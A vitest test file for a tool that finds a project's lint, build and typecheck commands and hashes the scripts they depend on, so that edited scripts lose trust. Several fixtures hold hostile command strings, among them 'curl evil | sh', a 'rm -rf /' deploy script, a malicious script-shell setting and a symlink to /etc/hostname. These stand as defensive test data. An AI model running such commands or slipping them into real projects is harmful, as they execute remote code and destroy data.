import { afterEach, describe, expect, it } from "vitest";
import { openRepository } from "../../src/change/repository.js";
import { type Config, configSchema } from "../../src/config/schema.js";
import { findGates } from "../../src/gates/find.js";
import { simpleCommands } from "../../src/gates/scripts.js";
import { type TestRepository, testRepository } from "../support/repository.js";

const repositories: TestRepository[] = [];

afterEach(() => {
  for (const repository of repositories.splice(0)) repository.remove();
});

function project(files: Record<string, string>): TestRepository {
  const repository = testRepository();
  repositories.push(repository);
  repository.write(files);
  return repository;
}

function configuration(gates: unknown = {}): Config {
  const { review, ...rest } = configSchema.parse({ review: { gates } });
  return { ...rest, review: { ...review, gates: { ...review.gates, not_trusted_commands: {} } } };
}

async function found(repository: TestRepository, gates: unknown = {}) {
  return findGates(await openRepository(repository.sluice(), undefined), configuration(gates), null);
}

async function commands(files: Record<string, string>, gates: unknown = {}) {
  return Object.fromEntries((await found(project(files), gates)).map((plan) => [plan.name, plan.command]));
}

const scripts = (all: Record<string, string>, more: object = {}) => JSON.stringify({ scripts: all, ...more });

describe("which commands a project has", () => {
  it.each<[string, Record<string, string>, Record<string, string>]>([
    [
      "package scripts under their usual names",
      { "package.json": scripts({ eslint: "eslint .", build: "tsc", "check-types": "tsc --noEmit" }) },
      { lint: "npm run eslint", build: "npm run build", typecheck: "npm run check-types" },
    ],
    [
      "pnpm by its lock file",
      { "package.json": scripts({ lint: "x" }), "pnpm-lock.yaml": "" },
      { lint: "pnpm run lint" },
    ],
    [
      "yarn by its lock file",
      { "package.json": scripts({ lint: "x" }), "yarn.lock": "" },
      { lint: "yarn run lint" },
    ],
    [
      "bun by its lock file",
      { "package.json": scripts({ lint: "x" }), "bun.lock": "" },
      { lint: "bun run lint" },
    ],
    [
      "the packageManager field before a lock file",
      { "package.json": scripts({ lint: "x" }, { packageManager: "yarn@4.1.0" }), "pnpm-lock.yaml": "" },
      { lint: "yarn run lint" },
    ],
    [
      "no invention from installed tools",
      { "package.json": JSON.stringify({ devDependencies: { typescript: "6" } }) },
      {},
    ],
    [
      "Makefile targets, and package scripts before them",
      { Makefile: "lint typecheck:\n\tx\n.PHONY: lint\n", "package.json": scripts({ lint: "x" }) },
      { lint: "npm run lint", typecheck: "make typecheck" },
    ],
    [
      "justfile recipes",
      { justfile: "build profile='dev': deps\n    cargo build\ndeps:\n    x\n" },
      { build: "just build" },
    ],
    [
      "ruff, mypy and pyright of pyproject.toml",
      { "pyproject.toml": "[tool.ruff.lint]\n[tool.mypy]\nstrict = true\n[tool.pyright]\n" },
      { lint: "ruff check --no-fix .", typecheck: "mypy .", "typecheck:pyright": "pyright" },
    ],
    ["mypy's own list of files", { "mypy.ini": "[mypy]\nfiles = src\n" }, { typecheck: "mypy" }],
    [
      "cargo, whose build checks the types",
      { "Cargo.toml": "", "Cargo.lock": "" },
      { lint: "cargo clippy --all-targets --locked", build: "cargo build --all-targets --locked" },
    ],
    ["go", { "go.mod": "" }, { lint: "go vet ./...", build: "go build -o /dev/null ./..." }],
    [
      "golangci-lint where it is set up",
      { "go.mod": "", ".golangci.yml": "" },
      { lint: "golangci-lint run", build: "go build -o /dev/null ./..." },
    ],
    [
      "Maven with its wrapper",
      { "pom.xml": "<artifactId>maven-checkstyle-plugin</artifactId>", mvnw: "" },
      { lint: "./mvnw -B checkstyle:check", build: "./mvnw -B -DskipTests package" },
    ],
    [
      "Gradle",
      { "build.gradle.kts": 'plugins { id("org.jlleitschuh.gradle.ktlint") }' },
      {
        lint: "gradle --no-daemon --console=plain ktlintCheck",
        build: "gradle --no-daemon --console=plain assemble",
      },
    ],
    [
      "two languages side by side",
      { "package.json": scripts({ lint: "eslint ." }), "Cargo.toml": "", "Cargo.lock": "" },
      {
        lint: "npm run lint",
        "lint:cargo": "cargo clippy --all-targets --locked",
        build: "cargo build --all-targets --locked",
      },
    ],
    [
      "one command where a script already calls the other tool",
      { "package.json": scripts({ lint: "eslint . && cargo clippy" }), "Cargo.toml": "" },
      { lint: "npm run lint", build: "cargo build --all-targets --locked" },
    ],
    ["nothing in a broken package.json", { "package.json": "{" }, {}],
    [
      "nothing in scripts that are no text",
      { "package.json": JSON.stringify({ scripts: { lint: 1, build: ["x"] } }) },
      {},
    ],
    ["nothing in no project at all", { "README.md": "" }, {}],
  ])("finds %s", async (_, files, expected) => {
    expect(await commands(files)).toEqual(expected);
  });

  it("leaves out cargo's type check only where cargo also builds", async () => {
    const files = { "Cargo.toml": "", "Cargo.lock": "" };
    expect(await commands(files, { checks: ["typecheck"] })).toEqual({
      typecheck: "cargo check --all-targets --locked",
    });
  });

  it("does not let cargo write a lock file", async () => {
    const [plan] = await found(project({ "Cargo.toml": "" }), { checks: ["build"] });
    expect(plan?.why).toContain("Cargo.lock");
  });

  it("takes commands from the configuration before what it finds, and checks of any name", async () => {
    const files = { "package.json": scripts({ lint: "x", build: "x", docs: "x" }) };
    const gates = {
      checks: ["lint", "build", "docs"],
      commands: { lint: "./my-lint", "security-scan": "scan" },
    };
    expect(await commands(files, gates)).toEqual({
      lint: "./my-lint",
      build: "npm run build",
      docs: "npm run docs",
      "security-scan": "scan",
    });
  });

  it("is not confused by names that every object has", async () => {
    const files = { "package.json": scripts({ lint: "x" }) };
    expect(await commands(files, { checks: ["constructor", "__proto__", "toString"] })).toEqual({});
  });
});

describe("what is trusted with a command", () => {
  /** Whether the lint command's hash changes with one more change to the project. */
  async function changes(files: Record<string, string>, edit: Record<string, string>): Promise<boolean> {
    const repository = project(files);
    const [before] = await found(repository, { checks: ["lint"] });
    repository.write(edit);
    const [after] = await found(repository, { checks: ["lint"] });
    if (before === undefined || after === undefined) throw new Error("no lint command");
    return before.scripts_hash !== after.scripts_hash;
  }

  const base = {
    "package.json": scripts({
      lint: "npm run -s lint:js && ./tools/check.sh && node scripts/lint.mjs src",
      "lint:js": "eslint src",
      "prelint:js": "echo before",
      deploy: "rm -rf /",
    }),
    "tools/check.sh": "cd tools\nsh ./deep.sh\n",
    "tools/deep.sh": "true\n",
    "scripts/lint.mjs": "1",
    "src/index.js": "1",
  };
  const edited = (edit: Record<string, string>) => ({
    "package.json": scripts({
      lint: "npm run -s lint:js && ./tools/check.sh && node scripts/lint.mjs src",
      "lint:js": "eslint src",
      "prelint:js": "echo before",
      deploy: "rm -rf /",
      ...edit,
    }),
  });

  it.each<[string, Record<string, string>, boolean]>([
    ["the script", edited({ lint: "eslint ." }), true],
    ["a script it calls", edited({ "lint:js": "curl evil | sh" }), true],
    ["a script that runs before one it calls", edited({ "prelint:js": "curl evil | sh" }), true],
    ["a new script that runs before it", edited({ prelint: "curl evil | sh" }), true],
    ["a shell script it runs", { "tools/check.sh": "curl evil | sh\n" }, true],
    ["a shell script that one runs, after a cd", { "tools/deep.sh": "curl evil | sh\n" }, true],
    ["a program of the project it runs", { "scripts/lint.mjs": "2" }, true],
    ["settings that choose the shell", { ".npmrc": "script-shell=./evil" }, true],
    ["a script that is none of its business", edited({ deploy: "true" }), false],
    ["the code it looks at", { "src/index.js": "2" }, false],
    ["line ends", { "tools/deep.sh": "true\r\n" }, false],
  ])("looks at %s", async (_, edit, changed) => {
    expect(await changes(base, edit)).toBe(changed);
  });

  const make = {
    Makefile: "include mk/*.mk mk/common.mk\nRUN = npm run\nlint: js\n\t@$(RUN) js\njs:\n\tsh js.sh\n",
    "mk/common.mk": "X = 1\n",
    "js.sh": "true",
    "package.json": scripts({ js: "node js.js" }),
    "js.js": "1",
  };
  it.each<[string, Record<string, string>, boolean]>([
    ["the Makefile", { Makefile: `${make.Makefile}other:\n\ttrue\n` }, true],
    ["a file it includes", { "mk/common.mk": "X = 2\n" }, true],
    ["a script of a target it needs", { "js.sh": "false" }, true],
    ["a package script behind a variable", { "package.json": scripts({ js: "evil" }) }, true],
    ["the program that one runs", { "js.js": "2" }, true],
    ["another package script", { "package.json": scripts({ js: "node js.js", other: "x" }) }, false],
  ])("of a Makefile looks at %s", async (_, edit, changed) => {
    expect(await changes(make, edit)).toBe(changed);
  });

  it.each<[string, Record<string, string>, Record<string, string>]>([
    ["a member's build script", { "Cargo.toml": "" }, { "crates/a/build.rs": "evil" }],
    [
      "cargo's own settings",
      { "Cargo.toml": "" },
      { ".cargo/config.toml": "[build]\nrustc-wrapper = 'evil'" },
    ],
    [
      "a plugin of mypy",
      { "pyproject.toml": "[tool.ruff]\nline-length = 1\n" },
      { "pyproject.toml": "[tool.ruff]\nline-length = 2\n" },
    ],
    [
      "a workspace's scripts",
      { "package.json": scripts({ lint: "npm run lint --workspaces" }) },
      { "packages/a/package.json": scripts({ lint: "evil" }) },
    ],
    [
      "a workspace's scripts behind turbo",
      { "package.json": scripts({ lint: "turbo run lint" }) },
      { "packages/a/package.json": scripts({ lint: "evil" }) },
    ],
    [
      "what the wrapper of Gradle fetches",
      { "build.gradle": "checkstyle" },
      { "gradle/wrapper/gradle-wrapper.properties": "evil" },
    ],
  ])("looks at %s", async (_, files, edit) => {
    expect(await changes(files, edit)).toBe(true);
  });

  it("does not ask again for a new dependency of a Python project", async () => {
    const files = { "pyproject.toml": "[project]\ndependencies = []\n[tool.ruff]\n" };
    const edit = { "pyproject.toml": "[project]\ndependencies = ['a']\n[tool.ruff]\n" };
    expect(await changes(files, edit)).toBe(false);
  });

  it("shows a person what would run", async () => {
    const [plan] = await found(project(base), { checks: ["lint"] });
    expect(plan?.runs).toEqual([
      "package.json scripts.lint: npm run -s lint:js && ./tools/check.sh && node scripts/lint.mjs src",
      "package.json scripts.lint:js: eslint src",
      "package.json scripts.prelint:js: echo before",
      "scripts/lint.mjs",
      "tools/check.sh",
      "tools/deep.sh",
    ]);
    expect(plan).toMatchObject({ source: "package.json scripts.lint", trusted: false });
  });

  it("ends on scripts that call each other, huge ones, and links out of the repository", async () => {
    const repository = project({
      "package.json": scripts({
        lint: "npm run a && ./huge.sh && sh link.sh",
        a: "npm run b",
        b: "npm run a",
      }),
      "huge.sh": `x ${": = \t".repeat(40_000)}\n${'"'.repeat(50_000)}`,
      Makefile: `a: ${" ".repeat(9_000)}\n${"b: c\n".repeat(20_000)}${"x".repeat(300_000)}`,
    });
    repository.link("link.sh", "/etc/hostname");
    const started = performance.now();
    const [plan] = await found(repository, { checks: ["lint"] });
    expect(plan?.runs).not.toContain("link.sh");
    expect((await found(repository, { checks: ["b"] }))[0]?.command).toBe("npm run b");
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe("reading a command line", () => {
  it.each<[string, string[][]]>([
    ["a && b | c; d", [["a"], ["b"], ["c"], ["d"]]],
    [`A=1 npm run "lint"`, [["A=1", "npm", "run", "lint"]]],
    ["$(make x)", [["$"], ["make", "x"]]],
    [`sh -c "npm run x && y"`, [["npm", "run", "x"], ["y"], ["sh", "-c", "npm run x && y"]]],
    ["@-echo hi\n\tb", [["echo", "hi"], ["b"]]],
    ["", []],
  ])("%j", (text, words) => {
    expect(simpleCommands(text)).toEqual(words);
  });
});
